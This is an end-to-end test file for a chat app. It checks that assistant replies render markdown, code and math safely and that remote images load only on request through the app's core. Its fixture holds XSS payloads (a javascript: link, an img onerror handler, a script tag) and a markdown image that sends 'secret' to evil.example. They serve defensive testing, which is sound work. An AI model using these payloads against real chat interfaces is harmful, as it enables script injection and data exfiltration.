import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test } from '@playwright/test';
import { useSharedHost } from '../testing/fixtures/sharedHost';

const KEY = 'e2e-key-markdown-000000';
const shared = useSharedHost(KEY);

// The fake provider echoes the message, so the reply is exactly this markdown.
const MARKDOWN = [
  'Voici :',
  '',
  '## Résumé',
  '',
  'Some **bold**, ~~struck~~ and `inline code`, plus [a safe link](https://example.org/docs).',
  '',
  '- [x] done',
  '- [ ] todo',
  '',
  '| Langue | Mot |',
  '|---|---|',
  '| fr | bonjour |',
  '',
  '```python',
  'def greet(name):',
  '    return f"Bonjour {name}"',
  '```',
  '',
  'Inline math $e^{i\\pi} + 1 = 0$ and \\(a^2 + b^2\\):',
  '',
  '\\[\\int_0^1 x\\,dx = \\tfrac12\\]',
  '',
  '[click me](javascript:window.__pwned=1) <img src=x onerror="window.__pwned=1"> <script>window.__pwned=1</script>',
  '',
  '![tracker](https://evil.example/collect?q=secret)',
].join('\n');

test('replies render GitHub markdown, code and math, and nothing in them runs', async ({
  page,
}) => {
  const external: string[] = [];
  page.on('request', (request) => {
    const url = new URL(request.url());
    if (url.hostname !== '127.0.0.1') external.push(request.url());
  });
  await page.goto(shared.host.url);
  await page.getByRole('button', { name: 'New chat' }).click();
  await page.getByRole('textbox', { name: 'Message' }).fill(MARKDOWN);
  await page.getByRole('button', { name: 'Send' }).click();

  const reply = page.getByRole('log', { name: 'Messages' }).locator('li.message-assistant');
  await expect(reply.getByRole('heading', { name: 'Résumé' })).toBeVisible();
  await expect(reply.locator('strong')).toHaveText('bold');
  await expect(reply.locator('del')).toHaveText('struck');
  await expect(reply.getByRole('table')).toContainText('bonjour');
  await expect(reply.getByRole('checkbox')).toHaveCount(2);
  // Highlighted once finished: the keyword gets its own element.
  await expect(reply.locator('code.language-python .hljs-keyword').first()).toHaveText('def');
  await expect(reply.getByRole('button', { name: 'Copy code' })).toBeVisible();
  // All three math forms became KaTeX.
  await expect(reply.locator('.katex')).toHaveCount(3);
  await expect(reply.locator('.math-display .katex-display')).toHaveCount(1);

  const safe = reply.getByRole('link', { name: 'a safe link' });
  await expect(safe).toHaveAttribute('href', 'https://example.org/docs');
  await expect(safe).toHaveAttribute('rel', /noopener/);
  // The javascript: link is inert text, the HTML is shown as text, the image is not fetched.
  await expect(reply.getByRole('link', { name: 'click me' })).toHaveCount(0);
  await expect(reply.locator('.link-inert')).toHaveText('click me');
  await expect(reply.locator('img')).toHaveCount(0);
  await expect(reply.locator('script')).toHaveCount(0);
  await expect(reply).toContainText('<img src=x onerror=');
  await expect(reply).toContainText('Image from evil.example not loaded');
  await reply.locator('.link-inert').click();
  expect(
    await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned),
  ).toBeUndefined();
  expect(external).toEqual([]);
  await page.screenshot({ path: test.info().outputPath('markdown.png'), fullPage: true });
});

test('a remote image loads only when clicked, through the app, never from the page', async ({
  page,
}) => {
  // A loopback image server standing in for a remote host: it records every request.
  const png = Buffer.from(
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==',
    'base64',
  );
  const requests: { path: string; referer?: string; cookie?: string }[] = [];
  const server = createServer((request, response) => {
    requests.push({
      path: request.url ?? '',
      referer: request.headers.referer,
      cookie: request.headers.cookie,
    });
    if (request.url?.startsWith('/pixel.png')) {
      response.writeHead(200, { 'content-type': 'image/png' });
      response.end(png);
    } else {
      response.writeHead(200, { 'content-type': 'text/html' });
      response.end('<h1>not an image</h1>');
    }
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  // The shared host maps pixels.test to loopback (CAUSERIE_TEST_HOSTS); a bare 127.0.0.1 link
  // is refused by the core, which never fetches this machine's own addresses.
  const origin = `pixels.test:${(server.address() as AddressInfo).port}`;
  const pageRequests: string[] = [];
  page.on('request', (request) => {
    if (request.url().includes(origin)) pageRequests.push(request.url());
  });
  try {
    await page.goto(shared.host.url);
    await page.getByRole('button', { name: 'New chat' }).first().click();
    await page
      .getByRole('textbox', { name: 'Message' })
      .fill(
        `![a pixel](http://${origin}/pixel.png?q=secret)\n\n![a page](http://${origin}/page)\n\n![second](http://${origin}/pixel.png?n=2)`,
      );
    await page.getByRole('button', { name: 'Send' }).click();
    const reply = page.getByRole('log', { name: 'Messages' }).locator('li.message-assistant');
    await expect(reply.locator('.image-placeholder').first()).toContainText(
      `Image from ${origin} not loaded`,
    );
    expect(requests).toEqual([]);

    await reply
      .getByRole('button', { name: `Load image from ${origin}` })
      .first()
      .click();
    const image = reply.getByRole('img', { name: 'a pixel' });
    await expect(image).toBeVisible();
    expect(await image.getAttribute('src')).toMatch(/^data:image\/png;base64,/);
    expect(requests).toEqual([
      { path: '/pixel.png?q=secret', referer: undefined, cookie: undefined },
    ]);
    // The page itself never contacted the image server: the core fetched it.
    expect(pageRequests).toEqual([]);

    // A link that is not an image is refused with a reason, and nothing is shown.
    await reply
      .getByRole('button', { name: `Load image from ${origin}` })
      .first()
      .click();
    await expect(page.getByRole('alert')).toContainText('The image could not be loaded');
    await expect(reply.getByRole('img')).toHaveCount(1);

    // Allowing images in this conversation loads the rest without a click, now and after reload.
    await reply
      .getByRole('button', { name: 'Always load images in this conversation' })
      .first()
      .click();
    await expect(reply.getByRole('img', { name: 'second' })).toBeVisible();
    expect(requests.filter((r) => r.path === '/pixel.png?n=2')).toHaveLength(1);
    await page.reload();
    await expect(reply.getByRole('img', { name: 'second' })).toBeVisible();
    await expect(reply.getByRole('img', { name: 'a pixel' })).toBeVisible();
    await page.getByRole('button', { name: 'Settings', exact: true }).click();
    const allow = page.getByRole('checkbox', { name: /Load remote images in this conversation/ });
    await expect(allow).toBeChecked();
    await allow.uncheck();
    await expect(allow).not.toBeChecked();
    await page.keyboard.press('Escape');
    await page.reload();
    await expect(reply.locator('.image-placeholder')).toHaveCount(3);
    expect(pageRequests).toEqual([]);
  } finally {
    server.closeAllConnections();
    await new Promise((resolve) => server.close(resolve));
  }
});
